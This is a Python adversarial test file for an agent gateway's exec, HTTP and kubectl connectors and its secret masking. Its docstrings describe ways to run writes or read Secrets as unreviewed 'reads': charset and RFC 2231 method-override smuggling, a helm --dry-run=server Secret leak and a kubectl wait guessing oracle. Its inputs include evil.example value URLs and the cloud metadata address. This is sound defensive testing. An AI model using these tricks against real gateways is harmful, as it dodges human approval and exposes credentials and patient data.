"""Round 21c: a promises-only attack on the connectors (exec, http, MCP) and masking.

Each finding is a strict xfail through a real door (`@finding`); attacks that held are
ordinary tests.
"""

from __future__ import annotations

import base64
import email
import email.utils
import json
import sys
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qsl, quote

import httpx
import pytest

from tests.adversarial.harness import http_upstream
from tests.adversarial.test_findings_round3 import cluster, kube, needs_kubectl, run_kubectl
from tests.adversarial.test_findings_round8 import search
from tests.conftest import Harness
from tests.connectors import kube_standin
from tests.connectors.support import harness_with
from tests.connectors.test_http import Upstream, http_connection, upstream

__all__ = ["cluster", "kube", "search", "upstream"]  # fixtures shared with rounds 3 and 8

# ── helm: a template rendered against the live cluster ─────────────────────────
RECORDER = """#!/bin/sh
printf '%s\\n' "$@" >> "$RECORD"
"""


@pytest.fixture
async def helm(tmp_path: Path) -> AsyncIterator[Harness]:
    """The REST door over an exec connection whose `helm` only records its argv."""
    program = tmp_path / "bin" / "helm"
    program.parent.mkdir()
    program.write_text(RECORDER)
    program.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    settings = {
        "type": "exec",
        "programs": [str(program)],
        "working_dir": str(work),
        "env": {"RECORD": str(tmp_path / "ran"), "HOME": str(tmp_path)},
        "timeout_seconds": 20,
        "rule_sets": ["helm"],
    }
    h = await harness_with(tmp_path, {"deploy": settings})
    try:
        yield h
    finally:
        await h.client.aclose()
        await h.gateway.close()


async def _run(h: Harness, connection: str, argv: list[str]) -> httpx.Response:
    body = {"connection": connection, "argv": argv}
    return await h.client.post("/v1/actions", headers=h.auth("claims-bot"), json=body)


@pytest.mark.parametrize(
    "argv",
    [
        ["template", "db", "bitnami/postgresql", "--dry-run=server"],
        ["template", "db", "./chart", "--dry-run=server", "-s", "templates/secrets.yaml"],
    ],
)
async def test_helm_template_against_the_cluster_is_not_a_read(
    helm: Harness, tmp_path: Path, argv: list[str]
) -> None:
    """docs/exec.md: helm `get values/manifest` are `export` because rendered manifests
    carry the release's Secrets; `template` is a read because it renders offline. Since
    helm 3.13, `template --dry-run=server` connects to the cluster with the gateway's
    credentials and lets the chart's `lookup` read live objects: charts that keep a
    generated password stable (bitnami's `common.secrets.passwords.manage`, used by
    postgresql, redis, mariadb, …) look up the existing Secret and render its value
    into the manifest they print. `--dry-run` is on `template`'s allow-list with any
    value, so this runs at once as a read under the demo policy. The masker is no
    second line here: fed a rendered Secret, it masks values under labels it knows
    (`password:`, `OTP_SECRET:`) but returns `rabbitmq-erlang-cookie`,
    `mongodb-replica-set-key`, `airflow-fernet-key`, `.dockerconfigjson`, `tls.key` and
    htpasswd data as they are (base64 is not encryption)."""
    response = await _run(helm, "deploy", ["helm", *argv])
    ran = tmp_path / "ran"
    assert response.status_code != 200 and not ran.exists(), (
        f"ran as a read ({ran.read_text() if ran.exists() else ''!r}): {response.text[:300]}"
    )


async def test_held_helm_template_offline_is_a_read(helm: Harness, tmp_path: Path) -> None:
    offline = await _run(helm, "deploy", ["helm", "template", "db", "./chart", "--dry-run"])
    assert offline.status_code == 200, offline.text
    fetched = await _run(helm, "deploy", ["helm", "template", "db", "oci://evil.example/c"])
    assert fetched.status_code == 403, fetched.text


# ── kubectl: describe prints a service account's token ─────────────────────────
SA_TOKEN = "eyJhbGciOiJSUzI1NiJ9.c2EtYWRtaW4tdG9rZW4tcm91bmQyMWM.c2lnbmF0dXJlLTIxYw"
_TOKEN_SECRET = {
    "kind": "Secret",
    "apiVersion": "v1",
    "metadata": {
        "name": "admin-token",
        "namespace": "default",
        "annotations": {"kubernetes.io/service-account.name": "cluster-admin-sa"},
    },
    "type": "kubernetes.io/service-account-token",
    "data": {
        "token": base64.b64encode(SA_TOKEN.encode()).decode(),
        "namespace": base64.b64encode(b"default").decode(),
    },
}


@pytest.fixture
def token_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """The stand-in API server also holds a long-lived service-account token Secret."""
    path = "/api/v1/namespaces/default/secrets/admin-token"
    monkeypatch.setitem(kube_standin._ANSWERS, path, _TOKEN_SECRET)
    listed = {"kind": "SecretList", "apiVersion": "v1", "metadata": {}, "items": [_TOKEN_SECRET]}
    monkeypatch.setitem(kube_standin._ANSWERS, "/api/v1/namespaces/default/secrets", listed)


@needs_kubectl
@pytest.mark.parametrize(
    "argv", [["describe", "secret/admin-token"], ["describe", "secrets"]], ids=["one", "all"]
)
async def test_held_a_described_token_secret_is_masked(
    kube: Harness, cluster: kube_standin.KubeStandIn, token_secret: None, argv: list[str]
) -> None:
    """kubectl's Secret describer prints every key as a byte count except the `token`
    of a `kubernetes.io/service-account-token` Secret, which it prints in clear, and
    `describe` is a read. Held: such tokens are JWTs, and the masker's secret detector
    masks the token before it leaves."""
    response = await run_kubectl(kube, *argv)
    assert [p for p, _ in cluster.requests if "admin-token" in p or p.endswith("secrets")]
    assert response.status_code == 200 and SA_TOKEN not in response.text, response.text[-400:]


@needs_kubectl
async def test_waiting_for_a_secrets_value_is_not_a_read(
    kube: Harness, cluster: kube_standin.KubeStandIn, token_secret: None
) -> None:
    """docs/exec.md: reading a Secret is an export (`get secrets` in any spelling, `wait`
    with `-o`). `kubectl wait secret/NAME --for=jsonpath={.data.KEY}=GUESS` prints only
    `condition met` (exit 0) or times out (exit 1), and runs at once as a read: the
    exit code says whether the Secret's value is the guess. That confirms a guessed or
    leaked password, a default one, or a short PIN, one request per guess."""
    right = base64.b64encode(b"default").decode()
    argv = ["wait", "secret/admin-token", f"--for=jsonpath={{.data.namespace}}={right}"]
    response = await run_kubectl(kube, *argv, "--timeout=5s")
    result = response.json().get("result", {}) if response.status_code == 200 else {}
    assert response.status_code in (202, 403), (
        f"ran as a read, exit {result.get('exit_code')}: {result.get('stdout')!r}"
    )


# ── HTTP: a form in another character set ─────────────────────────────────────
def _form_in(charset: str, fields: dict[str, str]) -> str:
    """`name=value` pairs percent-encoded as the bytes `charset` makes of them."""
    return "&".join(
        f"{quote(k.encode(charset), safe='')}={quote(v.encode(charset), safe='')}"
        for k, v in fields.items()
    )


CHARSETS = ["utf-16be", "utf-16le", "ibm037"]


@pytest.mark.parametrize("charset", CHARSETS)
async def test_a_method_override_in_a_form_of_another_charset_is_the_method(
    search: Harness, upstream: Upstream, charset: str
) -> None:
    """docs/http.md: a method override is classified as the method it asks for, and a
    body sent as text "is read every way a server may parse it: as a form, …". Servers
    decode a form's percent-escapes into bytes and then read those bytes in the charset
    the request's `content-type` names: Tomcat and Jetty (`getParameter`, which
    Spring's HiddenHttpMethodFilter reads `_method` with), ASP.NET (`Request.Form`,
    which MVC reads `X-HTTP-Method-Override` from) and Django (`QueryDict` in
    `request.encoding`) alike; this is the `charset=ibm037` trick that walks past WAFs.
    The gateway decodes every form as UTF-8, so `%00_%00m%00e…` names no override, and
    the DELETE runs at once as the rule's "read" `POST /patients/search`."""
    body = _form_in(charset, {"_method": "DELETE"})
    # What such a server reads (Python's own form parser, given the request's charset):
    assert parse_qsl(body, encoding=charset) == [("_method", "DELETE")]
    request = {
        "method": "POST",
        "path": "/patients/search",
        "headers": {"content-type": f"application/x-www-form-urlencoded; charset={charset}"},
        "body": body,
    }
    answer = await search.client.post(
        "/v1/actions",
        headers=search.auth("claims-bot"),
        json={"connection": "api", "request": request},
    )
    assert answer.status_code in (202, 403), (answer.status_code, answer.text[:300])
    assert upstream.seen == []


DISPOSITIONS = {
    "extended": "form-data; name*=UTF-8''_method",
    "extended-escaped": "form-data; name*=UTF-8''%5Fmethod",
    "continued": 'form-data; name*0="_me"; name*1="thod"',
    "spaced": 'form-data; name = "_method"',
}


@pytest.mark.parametrize("case", list(DISPOSITIONS))
async def test_a_method_override_in_a_multipart_field_named_by_rfc2231_is_the_method(
    search: Harness, upstream: Upstream, case: str
) -> None:
    """docs/http.md: an override name is read in multipart bodies. A part's name may be
    given as an RFC 2231 parameter (`name*=UTF-8''_method`, or continued over
    `name*0`/`name*1`), which Go's `mime.ParseMediaType` (so `r.FormValue("_method")`
    in Gorilla's HTTPMethodOverrideHandler, Echo's MethodOverride and Buffalo),
    Werkzeug's `parse_options_header` and Python's `email` all decode as `name`. The
    gateway's multipart reading looks for `name=` only, so the DELETE runs at once as
    the rule's "read" `POST /patients/search`. So does `name = "_method"`: Go's
    parameter parser (and Python's `email`) allow spaces around the `=`."""
    disposition = DISPOSITIONS[case]
    part = email.message_from_string(f"Content-Disposition: {disposition}\n\nDELETE")
    read = part.get_param("name", header="content-disposition")
    assert email.utils.collapse_rfc2231_value(read) == "_method"  # as such parsers read it
    body = f"--b\r\nContent-Disposition: {disposition}\r\n\r\nDELETE\r\n--b--\r\n"
    request = {
        "method": "POST",
        "path": "/patients/search",
        "headers": {"content-type": "multipart/form-data; boundary=b"},
        "body": body,
    }
    answer = await search.client.post(
        "/v1/actions",
        headers=search.auth("claims-bot"),
        json={"connection": "api", "request": request},
    )
    assert answer.status_code in (202, 403), (answer.status_code, answer.text[:300])
    assert upstream.seen == []


async def test_a_json_body_sent_as_a_form_is_read_as_that_form(
    search: Harness, upstream: Upstream
) -> None:
    """docs/http.md: "a body sent as JSON (`"body": {…}`) is read as the JSON the
    gateway sends", and a body sent as text "every way a server may parse it". But the
    caller's `content-type` wins over `application/json` for a JSON body too, and a
    server parses what arrives by its content-type: the JSON text
    `{"q":"&_method=DELETE&"}` as a form is the fields `{"q":"`, `_method=DELETE` and
    `"}`, so Rails, Laravel, Symfony and Express route it as DELETE. The gateway reads
    only the JSON's keys (`q`), and the DELETE runs at once as the rule's "read"
    `POST /patients/search`."""
    request = {
        "method": "POST",
        "path": "/patients/search",
        "headers": {"content-type": "application/x-www-form-urlencoded"},
        "body": {"q": "&_method=DELETE&"},
    }
    answer = await search.client.post(
        "/v1/actions",
        headers=search.auth("claims-bot"),
        json={"connection": "api", "request": request},
    )
    sent = [r["body"] for r in upstream.seen]
    assert all(("_method", "DELETE") in parse_qsl(b) for b in sent)  # as a server reads it
    assert answer.status_code in (202, 403), (answer.status_code, sent, answer.text[:200])
    assert upstream.seen == []


async def test_held_a_utf8_form_override_waits(search: Harness, upstream: Upstream) -> None:
    request = {
        "method": "POST",
        "path": "/patients/search",
        "headers": {"content-type": "application/x-www-form-urlencoded; charset=utf-8"},
        "body": "_%6Dethod=DELETE",
    }
    answer = await search.client.post(
        "/v1/actions",
        headers=search.auth("claims-bot"),
        json={"connection": "api", "request": request},
    )
    assert answer.status_code in (202, 403), (answer.status_code, answer.text[:300])
    assert upstream.seen == []


# ── HTTP: a credential in the path of `base_url` ───────────────────────────────
HOOK_SECRET = "q8Jf3LmN2pR7sT1vW4xY6zA0"
HOOK_PATH = f"/services/T0A1B2C3D4/B9Z8Y7X6W5/{HOOK_SECRET}"


class _AppendSlash(BaseHTTPRequestHandler):
    """An ordinary web app: a path without its trailing slash is redirected to it
    (Django's APPEND_SLASH, a static directory), an unknown one is a 404 naming it."""

    def do_GET(self) -> None:
        redirect = not self.path.endswith("/")
        body = b"" if redirect else f"no route for {self.path}".encode()
        self.send_response(301 if redirect else 404)
        if redirect:
            self.send_header("Location", self.path + "/")
        self.send_header("content-type", "text/plain")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        return None


@pytest.mark.parametrize("path", ["/status", "/status/"], ids=["redirect", "not-found"])
async def test_a_credential_in_the_base_urls_path_is_scrubbed(tmp_path: Path, path: str) -> None:
    """docs/http.md: `base_url` may come from `${ENV}` or `file:`, an unreachable
    upstream is reported "never the URL", and every credential the connection holds is
    scrubbed from anything that comes back. Capability URLs carry theirs in the path
    (Slack's and Discord's webhooks, `…/services/T…/B…/<secret>`), and the scrubber
    knows only userinfo and query values. An upstream need not be hostile to echo it:
    a trailing-slash redirect's `location` and a 404 page name the path they were
    asked for, and both reach the agent with the secret in them."""
    with http_upstream(_AppendSlash, "append-slash") as address:
        h = await harness_with(
            tmp_path, {"hook": {"type": "http", "base_url": f"http://{address}{HOOK_PATH}"}}
        )
        try:
            answer = await h.client.post(
                "/v1/actions",
                headers=h.auth("claims-bot"),
                json={"connection": "hook", "request": {"method": "GET", "path": path}},
            )
        finally:
            await h.client.aclose()
            await h.gateway.close()
    assert answer.status_code in (200, 502), answer.text[:300]
    assert HOOK_SECRET not in answer.text, answer.text[:400]


# ── HTTP: a base_url with a query ───────────────────────────────────────────────
async def test_a_base_url_with_a_query_keeps_the_requests_path(
    tmp_path: Path, upstream: Upstream
) -> None:
    """docs/http.md: "The path is appended to `base_url`", and `base_url`'s query values
    are scrubbed like credentials, so a base URL with a query is a supported setting
    (Azure's `?api-version=…`, a key as a query value). The connector glues the path
    onto the end of the URL, inside its query (`…/?api-version=1/patients/7`), and
    httpx then replaces that query with the request's own: the upstream receives the
    method on the base path. The reviewer approved `DELETE /patients/7` and the rules
    matched that path; what runs is `DELETE /` (here: `GET /patients/1` arrives as `GET /`)."""
    connection = http_connection(upstream)
    connection["base_url"] = f"{upstream.url}/?api-version=2024-01-01"
    h = await harness_with(tmp_path, {"api": connection})
    try:
        await h.client.post(
            "/v1/actions",
            headers=h.auth("claims-bot"),
            json={"connection": "api", "request": {"method": "GET", "path": "/patients/1"}},
        )
    finally:
        await h.client.aclose()
        await h.gateway.close()
    paths = [r["path"] for r in upstream.seen]
    assert paths and all(p.startswith("/patients/1") for p in paths), paths


# ── HTTP: a text answer in the charset its content-type names ─────────────────
UTF16_SSN = "536-22-8471"
UTF16_BODIES = {
    "text": ("text/plain; charset=utf-16le", "utf-16le", f"Patient SSN: {UTF16_SSN}\r\n"),
    "json": ("application/json; charset=utf-16", "utf-16", f'{{"ssn": "{UTF16_SSN}"}}'),
}


class _Utf16(BaseHTTPRequestHandler):
    """A Windows service: answers in UTF-16, and says so in its content-type."""

    def do_GET(self) -> None:
        content_type, charset, text = UTF16_BODIES[self.path.strip("/")]
        body = text.encode(charset)
        self.send_response(200)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        return None


@pytest.mark.parametrize("kind", list(UTF16_BODIES))
async def test_a_utf16_answer_is_masked_as_the_text_it_is(tmp_path: Path, kind: str) -> None:
    """docs/http.md: text is masked as text, JSON value by value. The body is decoded as
    UTF-8 whatever charset its `content-type` names, so a UTF-16 answer (what Windows
    services, PowerShell and .NET's `Encoding.Unicode` write) reaches the masker as
    `S\x00S\x00N\x00…`, every detector and label misses, and the SSN comes back with
    a NUL between its characters, one `replace` away from the agent."""
    with http_upstream(_Utf16, "utf16") as address:
        h = await harness_with(tmp_path, {"win": {"type": "http", "base_url": f"http://{address}"}})
        try:
            answer = await h.client.post(
                "/v1/actions",
                headers=h.auth("claims-bot"),
                json={"connection": "win", "request": {"method": "GET", "path": f"/{kind}"}},
            )
        finally:
            await h.client.aclose()
            await h.gateway.close()
    assert answer.status_code == 200, answer.text[:300]
    shown = json.dumps(answer.json()["result"]["body"]).replace("\\u0000", "")
    assert UTF16_SSN not in shown, shown[:300]


# ── exec: a CSV report longer than one read of the pipe ────────────────────────
ROWS = 40_000
REPORT = f"""#!{sys.executable}
print("mrn,visits,ward")
for i in range({ROWS}):
    print(f"{{448812 + i * 7}},{{i % 9}},{{'east' if i % 2 else 'west'}}")
"""


@pytest.fixture
async def report(tmp_path: Path) -> AsyncIterator[Harness]:
    """An exec connection whose `report` prints a CSV table of MRNs (a read)."""
    program = tmp_path / "bin" / "report"
    program.parent.mkdir()
    program.write_text(REPORT)
    program.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    settings = {
        "type": "exec",
        "programs": [str(program)],
        "working_dir": str(work),
        "timeout_seconds": 30,
        "rules": [{"name": "report is a read", "program": "report", "args": [], "risk": "read"}],
    }
    h = await harness_with(tmp_path, {"sh": settings})
    try:
        yield h
    finally:
        await h.client.aclose()
        await h.gateway.close()


async def test_a_long_csv_report_is_masked_by_its_header_to_its_end(report: Harness) -> None:
    """docs/masking.md: a CSV header names its column's type (`mrn,…` masks the rows
    under it), and a value over 1 MiB carries the header into the windows after it;
    docs/exec.md: output is masked block by block with 256 characters of the earlier
    output, and only the values and name words found earlier are carried. A 560 KB
    report (under `max_output_bytes`) is masked under its header for the first few
    thousand rows; every later row's MRN comes back as printed (4,679 of 40,000
    masked)."""
    answer = await report.client.post(
        "/v1/actions",
        headers=report.auth("claims-bot"),
        json={"connection": "sh", "argv": ["report"]},
    )
    assert answer.status_code == 200, answer.text[:300]
    stdout = answer.json()["result"]["stdout"]
    assert stdout.startswith("mrn,visits,ward\n[MRN],0,west\n"), stdout[:200]
    last = str(448812 + (ROWS - 1) * 7)
    shown = [line for line in stdout.splitlines() if line[:1].isdigit()]
    assert last not in stdout and not shown, f"{len(shown)} rows unmasked, e.g. {shown[-1:]}"


# ── held: command lines that reach elsewhere or print credentials ─────────────
@pytest.mark.parametrize(
    "argv",
    [
        ["template", "db", "./chart", "-f", "https://evil.example/values.yaml"],
        ["template", "db", "./chart", "--values=http://169.254.169.254/latest/meta-data/"],
    ],
)
async def test_held_helm_values_from_a_url_wait_or_are_refused(
    helm: Harness, tmp_path: Path, argv: list[str]
) -> None:
    response = await _run(helm, "deploy", ["helm", *argv])
    assert response.status_code in (202, 403) and not (tmp_path / "ran").exists()


@needs_kubectl
@pytest.mark.parametrize(
    "argv",
    [
        ["get", "pods", "-v=٩"],
        ["get", "--raw", "/api/v1/secrets?watch=1"],
        ["get", "--raw", "/api/v1/namespaces/default/serviceaccounts/y/token"],
        ["get", "secret/x", "--subresource=status", "-o", "name"],
    ],
)
async def test_held_kubectl_lines_that_reach_elsewhere_wait_or_are_refused(
    kube: Harness, cluster: kube_standin.KubeStandIn, argv: list[str]
) -> None:
    response = await run_kubectl(kube, *argv)
    assert response.status_code in (202, 403), response.text[:300]
    assert not cluster.requests
